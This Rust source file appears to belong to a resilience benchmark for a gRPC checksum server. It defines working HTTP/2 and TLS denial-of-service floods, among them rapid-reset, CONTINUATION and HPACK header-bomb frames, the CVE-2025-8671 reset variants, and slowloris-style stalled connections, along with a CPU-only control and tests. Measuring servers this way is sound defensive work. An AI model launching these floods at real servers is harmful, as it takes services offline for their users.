//! The catalogue of floods: each by its name, with what a connection sends.

use clap::builder::TypedValueParser;
use hashlane_http2_frames::{
    PAYLOAD_BYTES_DEFAULT, WINDOW_BYTES_MAX, call, closed_preface, flag, frame, kind, opening,
    preface, priority, reset, setting, settings, window_update,
};
use hashlane_proto::v1::{Algorithm, ChecksumType, ComposeRequest, DigestRequest, PartOptions};

use super::repeated_frames::{Batch, ITSELF, headers, message, open_call};
use crate::args::one_of;
use crate::protocol::grpc::{
    self, COMPOSE_PATH, DIGEST_BATCH_PATH, DIGEST_PATH, HEALTH_WATCH_PATH,
};

/// One kind of flood.
#[derive(Clone, Copy, Debug)]
pub struct Flood {
    /// The name in flags and rows.
    pub(crate) name: &'static str,
    help: &'static str,
    /// What a connection sends. The control has none.
    pub(super) batch: Option<fn() -> Batch>,
    /// True for a port with TLS.
    is_tls: bool,
}

impl PartialEq for Flood {
    fn eq(&self, other: &Self) -> bool {
        self.name == other.name
    }
}

impl Flood {
    /// Whether it opens connections.
    pub(crate) fn connects(&self) -> bool {
        self.batch.is_some()
    }

    /// Whether it suits a port with TLS, or without.
    pub(crate) fn fits(&self, is_tls: bool) -> bool {
        !self.connects() || self.is_tls == is_tls
    }

    /// The same on a port with TLS.
    const fn over_tls(self) -> Self {
        Self {
            is_tls: true,
            ..self
        }
    }

    /// Parses a flood's name.
    pub(crate) fn parser() -> impl TypedValueParser<Value = Self> {
        one_of(FLOODS.map(|flood| (flood.name, flood.help, flood)))
    }

    /// All names.
    pub(crate) fn names() -> Vec<&'static str> {
        FLOODS.map(|flood| flood.name).into()
    }
}

/// The control: as much CPU time, but no flood.
pub(crate) const SPINS: Flood = Flood {
    name: "spins",
    help: "the control: a thread that uses its CPU and sends nothing",
    batch: None,
    is_tls: false,
};

const fn flood(name: &'static str, help: &'static str, batch: fn() -> Batch) -> Flood {
    Flood {
        name,
        help,
        batch: Some(batch),
        is_tls: false,
    }
}

/// All floods; the first cost the server CPU time for frames and connections.
static FLOODS: [Flood; 34] = [
    SPINS,
    flood("ping", "PING", || {
        Batch::of(&frame(kind::PING, 0, 0, &[7; 8]))
    }),
    flood("settings", "SETTINGS of one entry", || {
        Batch::of(&settings_of(1))
    }),
    flood("settings-many", "SETTINGS of 256 entries", || {
        Batch::of(&settings_of(256))
    }),
    flood(
        "window-update",
        "WINDOW_UPDATE of the connection by 1",
        || Batch {
            // Keep the connection's window small, or the first update would overflow it.
            opening: preface(),
            ..Batch::of(&window_update(0, 1))
        },
    ),
    flood("priority", "PRIORITY of a stream that is not open", || {
        Batch::of(&priority(1, 0, 15))
    }),
    flood(
        "rapid-reset",
        "HEADERS of a call and RST_STREAM of it",
        || Batch::of_calls(&[open_call(), reset(0)]),
    ),
    flood("headers", "HEADERS of calls that send nothing more", || {
        Batch::of_calls(&[open_call()])
    }),
    flood("empty-calls", "HEADERS of calls that end at once", || {
        Batch::of_calls(&[call(DIGEST_PATH, 0, flag::END_STREAM, &[])])
    }),
    flood(
        "continuation",
        "CONTINUATION of a header block without end",
        || {
            // The header `x: y`, without indexing.
            let block = [0, 1, b'x', 1, b'y'];
            let opener = frame(kind::HEADERS, 0, 0, &headers());
            Batch::on_call(opener, &frame(kind::CONTINUATION, 0, 0, &block))
        },
    ),
    flood("empty-data", "DATA without a byte", || {
        Batch::on_call(open_call(), &frame(kind::DATA, 0, 0, &[]))
    }),
    flood(
        "one-byte-data",
        "a message of 1 KiB in DATA of one byte",
        || {
            let message = message(0, DRIPPED_BYTES, false);
            let frames = message.iter().map(|&byte| frame(kind::DATA, 0, 0, &[byte]));
            Batch::on_call(open_call(), &frames.collect::<Vec<_>>().concat())
        },
    ),
    flood(
        "tiny-messages",
        "messages of one byte, each in DATA of its own",
        || Batch::on_call(open_call(), &frame(kind::DATA, 0, 0, &message(0, 1, false))),
    ),
    flood(
        "packed-messages",
        "calls of 1,270 whole parts of one byte in one DATA",
        || Batch::of_calls(&[open_call(), packed_parts(flag::END_STREAM)]),
    ),
    flood(
        "header-bomb",
        "HEADERS with 2,000 references to a field of 4 KB",
        || Batch::of_calls(&[frame(kind::HEADERS, flag::END_HEADERS, 0, &bomb())]),
    ),
    flood("tls-garbage", "connections that do not speak TLS", || {
        Batch::staying(vec![0x55; 512])
    })
    .over_tls(),
    flood("churn", "connections that speak HTTP/2 and leave", || {
        Batch {
            leaves: true,
            ..Batch::staying(opening())
        }
    }),
    // The six ways of CVE-2025-8671 to make the server reset an open call.
    flood("reset-zero", "calls whose window is opened by 0", || {
        Batch::of_calls(&[open_call(), window_update(0, 0)])
    }),
    flood(
        "reset-overflow",
        "calls whose window is opened too far",
        || {
            let update = window_update(0, WINDOW_BYTES_MAX);
            Batch::of_calls(&[open_call(), update.clone(), update])
        },
    ),
    flood("reset-short", "calls with a PRIORITY of 4 bytes", || {
        Batch::of_calls(&[open_call(), frame(kind::PRIORITY, 0, 0, &[0; 4])])
    }),
    flood(
        "reset-itself",
        "calls with a PRIORITY that depends on itself",
        || Batch::of_calls(&[open_call(), priority(0, ITSELF, 0)]),
    ),
    flood(
        "reset-headers",
        "calls with HEADERS after their end",
        || Batch::of_calls(&[open_call(), last_data(), open_call()]),
    ),
    flood("reset-data", "calls with DATA after their end", || {
        Batch::of_calls(&[open_call(), last_data(), frame(kind::DATA, 0, 0, b"more")])
    }),
    // Connections that make the server hold as much memory as allowed, then stay.
    flood(
        "half-prefaces",
        "connections that stop within the preface",
        || {
            let mut opening = opening();
            opening.truncate(12);
            Batch::staying(opening)
        },
    ),
    flood(
        "endless-headers",
        "connections that stop within a header block",
        || {
            let block = vec![0; PAYLOAD_BYTES_DEFAULT];
            Batch {
                times: 1,
                ..Batch::of_calls(&[frame(kind::HEADERS, 0, 0, &block)])
            }
        },
    ),
    flood("open-calls", "calls that send nothing more", || {
        calls(&[open_call()])
    }),
    flood("watches", "calls of Health.Watch", || {
        let open = call(HEALTH_WATCH_PATH, 0, 0, &[]);
        // A message without a field: all of the server.
        calls(&[open, frame(kind::DATA, flag::END_STREAM, 0, &[0; 5])])
    }),
    flood(
        "open-parts",
        "calls of a part that wants all digests",
        || {
            let message = grpc::frame(&DigestRequest {
                open: Some(PartOptions {
                    algorithms: (1..=ALGORITHMS).collect(),
                    size_bytes: None,
                }),
                data: vec![b'a'].into(),
                ..Default::default()
            });
            calls(&[open_call(), frame(kind::DATA, 0, 0, &message)])
        },
    ),
    flood(
        "held-data",
        "calls with data that other fields are to follow",
        || {
            // Field 15, with fewer bytes than the message has left.
            let field = [&[0x7a][..], &varint(PROMISED_BYTES - 16)].concat();
            calls(&[open_call(), promising(&field)])
        },
    ),
    flood(
        "whole-messages",
        "calls of DigestBatch whose message does not end",
        || {
            let field = [&[0x12][..], &varint(PROMISED_BYTES - 16)].concat();
            let open = call(DIGEST_BATCH_PATH, 0, 0, &[]);
            calls(&[open, promising(&field)])
        },
    ),
    flood(
        "zero-windows",
        "calls whose one answer may not be sent",
        || unread(calls(&[open_call(), last_data()])),
    ),
    flood(
        "unread-answers",
        "calls of many parts whose answers may not be sent",
        || unread(calls(&[open_call(), packed_parts(0)])),
    ),
    flood(
        "half-handshakes",
        "connections that stop within a TLS handshake",
        || {
            // A handshake record of 512 bytes, with the beginning of a ClientHello (RFC 8446).
            Batch::staying(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".to_vec())
        },
    )
    .over_tls(),
    // Calls that make the server compute as much as one message may request.
    flood(
        "compose-parts",
        "calls of Compose with 10,000 parts of different sizes",
        || Batch::of_calls(&whole_call(COMPOSE_PATH, &grpc::frame(&compose()))),
    ),
];

/// Bytes of data in the message sent byte by byte.
const DRIPPED_BYTES: usize = 1024;

/// Calls of a connection, the server's default maximum, and the most in one batch.
const CALLS: usize = 1024;
const CALLS_IN_BATCH_MAX: usize = 128;

/// Length in a message's prefix; most of the message is never sent.
const PROMISED_BYTES: u32 = 1 << 20;

/// Number of algorithms that a part may name.
const ALGORITHMS: i32 = 28;

/// S3's largest number of parts.
const PARTS: usize = 10_000;

/// The headers of a call, a field of 4 KB that goes into the dynamic table, and references to it
/// (RFC 7541 sections 6.2.1 and 6.1).
fn bomb() -> Vec<u8> {
    let value = [b'x'; 3900];
    // The value's length as an integer with a 7-bit prefix: 127 + 3773.
    let field = [&b"\x40\x01a\x7f\xbd\x1d"[..], &value].concat();
    [headers(), field, vec![0xbe; 2000]].concat()
}

/// A SETTINGS frame whose every entry changes the streams' window.
fn settings_of(entries: usize) -> Vec<u8> {
    let entry = |index| {
        let value = if index % 2 == 0 { 65_535 } else { 65_534 };
        (setting::INITIAL_WINDOW_SIZE, value)
    };
    let entries: Vec<_> = (0..entries).map(entry).collect();
    settings(&entries)
}

/// As many whole parts of one byte as one DATA has room for, each of another number.
fn packed_parts(flags: u8) -> Vec<u8> {
    let mut payload = Vec::new();
    for part in 1.. {
        let message = message(part, 1, true);
        if payload.len() + message.len() > PAYLOAD_BYTES_DEFAULT {
            break;
        }
        payload.extend(message);
    }
    frame(kind::DATA, flags, 0, &payload)
}

fn last_data() -> Vec<u8> {
    frame(kind::DATA, flag::END_STREAM, 0, &message(0, 1, true))
}

/// As many calls with these frames as a connection may have.
fn calls(frames: &[Vec<u8>]) -> Batch {
    let batch = Batch::of_calls(frames);
    let calls_in_batch = usize::try_from(batch.frames).unwrap_or(usize::MAX) / frames.len();
    let calls_in_batch = power_of_two_up_to(calls_in_batch.min(CALLS_IN_BATCH_MAX));
    Batch {
        times: CALLS / calls_in_batch,
        ..Batch::of_calls_at_once(frames, calls_in_batch)
    }
}

/// The largest power of two that is at most `number`.
fn power_of_two_up_to(number: usize) -> usize {
    1 << number.max(1).ilog2()
}

fn unread(batch: Batch) -> Batch {
    Batch {
        opening: closed_preface(),
        ..batch
    }
}

/// A frame of an incomplete message that begins with `field`.
fn promising(field: &[u8]) -> Vec<u8> {
    let prefix = [&[0][..], &PROMISED_BYTES.to_be_bytes(), field].concat();
    let mut payload = prefix;
    payload.resize(PAYLOAD_BYTES_DEFAULT, b'a');
    frame(kind::DATA, 0, 0, &payload)
}

fn varint(number: u32) -> Vec<u8> {
    let mut bytes = Vec::new();
    prost::encoding::encode_varint(number.into(), &mut bytes);
    bytes
}

/// A full-object value whose parts have different 64-bit lengths.
fn compose() -> ComposeRequest {
    let crc = |part: usize| Vec::from(part.to_be_bytes()).into();
    let bytes = |part: usize| u64::MAX - 0x9E37_79B9_7F4A * part as u64;
    ComposeRequest {
        algorithm: Algorithm::Crc64nvme.into(),
        part_digests: (0..PARTS).map(crc).collect(),
        checksum_type: ChecksumType::FullObject.into(),
        part_size_bytes: (0..PARTS).map(bytes).collect(),
        ..Default::default()
    }
}

/// The frames of a whole call.
fn whole_call(path: &str, message: &[u8]) -> Vec<Vec<u8>> {
    let mut frames = vec![call(path, 0, 0, &[])];
    let last = message.len().div_ceil(PAYLOAD_BYTES_DEFAULT) - 1;
    for (index, piece) in message.chunks(PAYLOAD_BYTES_DEFAULT).enumerate() {
        let flags = flag::END_STREAM * u8::from(index == last);
        frames.push(frame(kind::DATA, flags, 0, piece));
    }
    frames
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use prost::Message as _;

    use super::*;

    fn batch(name: &str) -> Batch {
        let flood = FLOODS.iter().find(|flood| flood.name == name).unwrap();
        flood.batch.unwrap()()
    }

    #[test]
    fn batches_are_whole_frames_of_their_kind() {
        for (name, kinds, frames) in [
            ("ping", &[kind::PING][..], 16_384 / 17),
            ("settings", &[kind::SETTINGS], 16_384 / 15),
            ("settings-many", &[kind::SETTINGS], 16_384 / (9 + 6 * 256)),
            ("window-update", &[kind::WINDOW_UPDATE], 16_384 / 13),
            ("priority", &[kind::PRIORITY], 16_384 / 14),
            ("rapid-reset", &[kind::HEADERS, kind::RST_STREAM], 2 * 163),
            ("continuation", &[kind::CONTINUATION], 16_384 / 14),
            ("empty-data", &[kind::DATA], 16_384 / 9),
            ("one-byte-data", &[kind::DATA], 1032),
            ("packed-messages", &[kind::HEADERS, kind::DATA], 2),
            ("header-bomb", &[kind::HEADERS], 2),
            (
                "reset-data",
                &[kind::HEADERS, kind::DATA, kind::DATA],
                3 * 137,
            ),
            ("open-parts", &[kind::HEADERS, kind::DATA], 2 * 64),
            ("held-data", &[kind::HEADERS, kind::DATA], 2),
        ] {
            let batch = batch(name);
            let (mut data_bytes, mut seen) = (0, 0);
            for (head, payload) in hashlane_http2_frames::frames(&batch.bytes) {
                assert_eq!(head.kind, kinds[seen % kinds.len()], "{name}");
                if head.kind == kind::DATA {
                    data_bytes += payload.len();
                }
                seen += 1;
            }
            assert_eq!((seen, batch.frames), (frames, frames as u64), "{name}");
            assert_eq!(data_bytes as i64, batch.window_bytes, "{name}");
        }
    }

    #[test]
    fn packed_parts_are_whole_parts_of_different_numbers() {
        let bytes = packed_parts(0);
        let (_, payload) = hashlane_http2_frames::frames(&bytes).next().unwrap();
        let (mut rest, mut parts) = (payload, HashSet::new());
        while !rest.is_empty() {
            let length = u32::from_be_bytes(rest[1..grpc::PREFIX_BYTES].try_into().unwrap());
            let (message, others) = rest.split_at(grpc::PREFIX_BYTES + length as usize);
            let request = DigestRequest::decode(&message[grpc::PREFIX_BYTES..]).unwrap();
            assert!(request.last && parts.insert(request.part), "{request:?}");
            rest = others;
        }
        assert_eq!(parts.len(), 1270);
    }

    #[test]
    fn names_are_parsed_and_distinct() {
        let names: HashSet<_> = Flood::names().into_iter().collect();
        assert_eq!(names.len(), FLOODS.len());
    }

    #[test]
    fn a_call_is_one_whole_message_of_different_parts() {
        let batch = Batch::of_calls(&whole_call(COMPOSE_PATH, &grpc::frame(&compose())));
        let (mut message, mut ends) = (Vec::new(), 0);
        for (head, payload) in hashlane_http2_frames::frames(&batch.bytes) {
            if head.kind == kind::DATA {
                message.extend_from_slice(payload);
                ends += usize::from(head.has(flag::END_STREAM));
            }
        }
        assert_eq!((ends, message.len() as i64), (1, batch.window_bytes));
        let request = ComposeRequest::decode(&message[grpc::PREFIX_BYTES..]).unwrap();
        let lengths: HashSet<u64> = request.part_size_bytes.iter().copied().collect();
        assert_eq!((request.part_digests.len(), lengths.len()), (PARTS, PARTS));
        assert!(lengths.iter().all(|length| *length > u64::MAX / 2));
    }
}
